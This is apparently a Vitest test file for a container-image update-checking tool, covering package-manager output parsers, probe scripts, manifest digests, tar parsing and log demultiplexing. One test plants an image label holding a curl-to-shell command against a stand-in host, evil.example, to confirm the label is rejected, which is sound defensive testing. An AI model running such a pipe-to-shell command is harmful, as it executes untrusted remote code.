import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { contentDifferences } from '../../src/steps/rebuild/identical.js';
import {
  APT_UPDATE,
  apkManifest,
  dpkgManifest,
  manifestDigest,
  parseApkVersion,
  parseAptUpgrade,
  parseCheckUpdate,
  parseCustomProbe,
  parseOsRelease,
  probeScript,
} from '../../src/images/packages.js';
import { customProbe } from '../../src/steps/probeProd.js';
import { firstTarEntry, resolveLink } from '../../src/images/tarEntry.js';
import { demuxLogs } from '../../src/adapters/engineThrowaway.js';

const fixture = (name: string) => readFileSync(join(import.meta.dirname, '../fixtures/probe', name), 'utf8');

describe('probe output parsers', () => {
  it('apt-get -s upgrade (real capture, Debian 12): every Inst line with both versions', () => {
    const found = parseAptUpgrade(fixture('apt-get-s-upgrade.bookworm.txt'));
    expect(found).toHaveLength(137);
    expect(found[0]).toEqual({ name: 'base-files', installed: '12.4+deb12u11', available: '12.4+deb12u15' });
    expect(found).toContainEqual({ name: 'libgcrypt20-dev', installed: '1.10.1-3', available: '1.10.1-3+deb12u1' });
    expect(new Set(found.map((p) => p.name)).size).toBe(137);
  });

  it('apt-get -s upgrade: nothing to do, and packages kept back count as outdated', () => {
    const none = ['Reading package lists...', 'Calculating upgrade...', '0 upgraded, 0 newly installed, 0 to remove and 0 not upgraded.'].join('\n');
    expect(parseAptUpgrade(none)).toEqual([]);
    const kept = [
      'Calculating upgrade...',
      'The following packages have been kept back:',
      '  linux-image-amd64 systemd',
      'The following packages will be upgraded:',
      '  bash',
      'Inst bash [5.2.15-2+b2] (5.2.15-2+b7 Debian:12.5/stable [amd64])',
      'Conf bash (5.2.15-2+b7 Debian:12.5/stable [amd64])',
    ].join('\n');
    expect(parseAptUpgrade(kept)).toEqual([
      { name: 'bash', installed: '5.2.15-2+b2', available: '5.2.15-2+b7' },
      { name: 'linux-image-amd64' },
      { name: 'systemd' },
    ]);
  });

  it('dnf check-update: rows up to Obsoleting Packages, epoch kept', () => {
    expect(parseCheckUpdate(fixture('dnf-check-update.txt'))).toEqual([
      { name: 'curl', available: '7.76.1-26.el9_3.3' },
      { name: 'libcurl', available: '7.76.1-26.el9_3.3' },
      { name: 'openssl-libs', available: '1:3.0.7-25.el9_3' },
      { name: 'python3-urllib3', available: '1.26.5-3.el9_3.1' },
    ]);
    expect(parseCheckUpdate('Last metadata expiration check: 0:01:02 ago on Mon 01 Jan 2024.\n')).toEqual([]);
  });

  it("apk version -l '<': name and both versions, header skipped", () => {
    expect(parseApkVersion(fixture('apk-version.txt'))).toEqual([
      { name: 'busybox', installed: '1.36.1-r15', available: '1.36.1-r19' },
      { name: 'libcrypto3', installed: '3.1.4-r5', available: '3.1.5-r0' },
      { name: 'ssl_client', installed: '1.36.1-r15', available: '1.36.1-r19' },
    ]);
  });

  it('custom probe: one package per line, the rest of the line is the available version; blanks and comments ignored', () => {
    expect(parseCustomProbe('openssl 3.0.15\n\n# from our feed\n  zlib  \n')).toEqual([{ name: 'openssl', available: '3.0.15' }, { name: 'zlib' }]);
  });

  it('custom probe precedence: the repository entry, then the by_label probe the image label names, then the * entry', () => {
    const label = { 'org.freshen.probe': 'pip' };
    const byLabel = { pip: 'pip list --outdated' };
    expect(customProbe('a', label, { commands: { a: 'from-option', '*': 'all' }, byLabel })).toEqual({ command: 'from-option' });
    expect(customProbe('b', label, { commands: { a: 'from-option', '*': 'all' }, byLabel })).toEqual({ command: 'pip list --outdated' });
    expect(customProbe('b', {}, { commands: { '*': 'all' }, byLabel })).toEqual({ command: 'all' });
    expect(customProbe('b', {}, { commands: {}, byLabel })).toEqual({});
  });

  it('an image label never supplies the script: a label naming no defined probe (or carrying a command) is a problem, not run', () => {
    const planted = { 'org.freshen.probe': 'curl http://evil.example/x | sh' };
    const result = customProbe('b', planted, { commands: { '*': 'all' }, byLabel: { pip: 'pip list --outdated' } });
    expect(result).toEqual({
      problem:
        'its label org.freshen.probe names the probe "curl http://evil.example/x | sh", which discover\'s probe.by_label does not define (it has pip); a label only picks a probe the playbook defines',
    });
    expect(customProbe('b', { 'org.freshen.probe': 'toString' }, { commands: {}, byLabel: {} })).toEqual({
      problem: expect.stringContaining('it defines none'),
    });
  });
});

describe('probe scripts', () => {
  it.each([
    {
      db: 'dpkg' as const,
      refresh: true,
      script: ['export LC_ALL=C DEBIAN_FRONTEND=noninteractive', ...APT_UPDATE, 'exec apt-get -s -o Debug::NoLocking=1 upgrade'].join('\n'),
    },
    { db: 'dpkg' as const, refresh: false, script: 'export LC_ALL=C DEBIAN_FRONTEND=noninteractive\nexec apt-get -s -o Debug::NoLocking=1 upgrade' },
    { db: 'apk' as const, refresh: true, script: "apk update -q >/dev/null || exit 3\nexec apk version -l '<'" },
    {
      db: 'rpm' as const,
      refresh: false,
      script:
        'export LC_ALL=C\nif command -v dnf >/dev/null 2>&1; then pm=dnf; else pm=yum; fi\n$pm -q -C check-update; rc=$?\n[ "$rc" = 100 ] && exit 0\nexit $rc',
    },
  ])('$db, refresh $refresh', ({ db, refresh, script }) => {
    expect(probeScript(db, refresh)).toBe(script);
  });
});

describe('package manifests', () => {
  const status = [
    'Package: zlib1g',
    'Status: install ok installed',
    'Architecture: amd64',
    'Version: 1:1.2.13.dfsg-1',
    'Description: compression library',
    ' continuation line',
    '',
    'Package: removed-one',
    'Status: deinstall ok config-files',
    'Architecture: amd64',
    'Version: 1.0',
    '',
    'Package: base-files',
    'Status: install ok installed',
    'Architecture: amd64',
    'Version: 12.4+deb12u5',
    '',
  ].join('\n');

  it('dpkg status: installed packages only, sorted, name:arch version', () => {
    expect(dpkgManifest(status)).toEqual(['base-files:amd64 12.4+deb12u5', 'zlib1g:amd64 1:1.2.13.dfsg-1']);
  });

  it('apk installed database', () => {
    const installed = 'C:Q1abc=\nP:musl\nV:1.2.4-r2\nA:x86_64\nS:383152\n\nC:Q1def=\nP:busybox\nV:1.36.1-r15\nA:x86_64\n';
    expect(apkManifest(installed)).toEqual(['busybox:x86_64 1.36.1-r15', 'musl:x86_64 1.2.4-r2']);
  });

  it('manifest digest: order-independent; none without a package database; the dpkg status order does not matter', () => {
    expect(manifestDigest(['b 1', 'a 1'])).toBe(manifestDigest(['a 1', 'b 1']));
    expect(manifestDigest(['a 1'])).not.toBe(manifestDigest(['a 2']));
    expect(manifestDigest(undefined)).toBe('none');
    expect(manifestDigest([])).toBe('sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855');
    const reordered = status.split('\n\n').reverse().join('\n\n');
    expect(manifestDigest(dpkgManifest(reordered))).toBe(manifestDigest(dpkgManifest(status)));
  });

  it('os-release', () => {
    expect(parseOsRelease('PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n# comment\nVERSION_ID="12"\n')).toEqual({
      PRETTY_NAME: 'Debian GNU/Linux 12 (bookworm)',
      ID: 'debian',
      VERSION_ID: '12',
    });
  });
});

describe('content comparison', () => {
  const id = (c: string) => `sha256:${c.repeat(64)}`;
  const prod = { bases: { 'r/os:stable': id('1') }, contextDigest: id('c'), packages: id('p') };
  it.each([
    { name: 'identical', built: prod, differences: [] },
    { name: 'base moved', built: { ...prod, bases: { 'r/os:stable': id('2') } }, differences: ['base r/os:stable: 111111111111… → 222222222222…'] },
    { name: 'base added', built: { ...prod, bases: { ...prod.bases, 'r/tool:1': id('3') } }, differences: ['base r/tool:1: not used → 333333333333…'] },
    { name: 'context', built: { ...prod, contextDigest: id('d') }, differences: ['build context cccccccccccc… → dddddddddddd…'] },
    { name: 'packages', built: { ...prod, packages: id('q') }, differences: ['installed packages pppppppppppp… → qqqqqqqqqqqq…'] },
    { name: 'no package database either side', built: { ...prod, packages: 'none' }, differences: ['installed packages pppppppppppp… → none'] },
    {
      name: 'packages unreadable',
      built: { bases: prod.bases, contextDigest: prod.contextDigest },
      differences: ['the installed packages could not be compared'],
    },
  ])('$name', ({ built, differences }) => {
    expect(contentDifferences(built, prod)).toEqual(differences);
  });

  it('prod without provenance is never identical', () => {
    expect(contentDifferences(prod, undefined)).toEqual(['prod records no provenance to compare with']);
  });
});

describe('engine formats', () => {
  const header = (name: string, size: number, type: string, link = '') => {
    const h = Buffer.alloc(512);
    h.write(name, 0);
    h.write(size.toString(8).padStart(11, '0'), 124);
    h.write(type, 156);
    h.write(link, 157);
    return h;
  };
  const pad = (b: Buffer) => Buffer.concat([b, Buffer.alloc((512 - (b.length % 512)) % 512)]);

  it('first tar entry: a file after a pax header, a symlink, an empty archive', () => {
    const pax = pad(Buffer.from('30 mtime=1700000000.123456789\n'));
    const body = Buffer.from('ID=debian\n');
    const archive = Buffer.concat([header('PaxHeaders/os-release', 30, 'x'), pax, header('os-release', body.length, '0'), pad(body), Buffer.alloc(1024)]);
    expect(firstTarEntry(archive)).toEqual({ type: 'file', content: body });
    expect(firstTarEntry(Buffer.concat([header('os-release', 0, '2', '../usr/lib/os-release'), Buffer.alloc(1024)]))).toEqual({
      type: 'symlink',
      target: '../usr/lib/os-release',
    });
    expect(firstTarEntry(Buffer.alloc(1024))).toBeUndefined();
  });

  it('symlink resolution', () => {
    expect(resolveLink('/etc/os-release', '../usr/lib/os-release')).toBe('/usr/lib/os-release');
    expect(resolveLink('/etc/os-release', '/usr/lib/os-release')).toBe('/usr/lib/os-release');
  });

  it('log demultiplexing', () => {
    const frame = (kind: number, text: string) => {
      const h = Buffer.alloc(8);
      h[0] = kind;
      h.writeUInt32BE(Buffer.byteLength(text), 4);
      return Buffer.concat([h, Buffer.from(text)]);
    };
    expect(demuxLogs(Buffer.concat([frame(1, 'Inst a\n'), frame(2, 'W: warn\n'), frame(1, 'Inst b\n')]))).toEqual({
      stdout: 'Inst a\nInst b\n',
      stderr: 'W: warn\n',
    });
  });
});
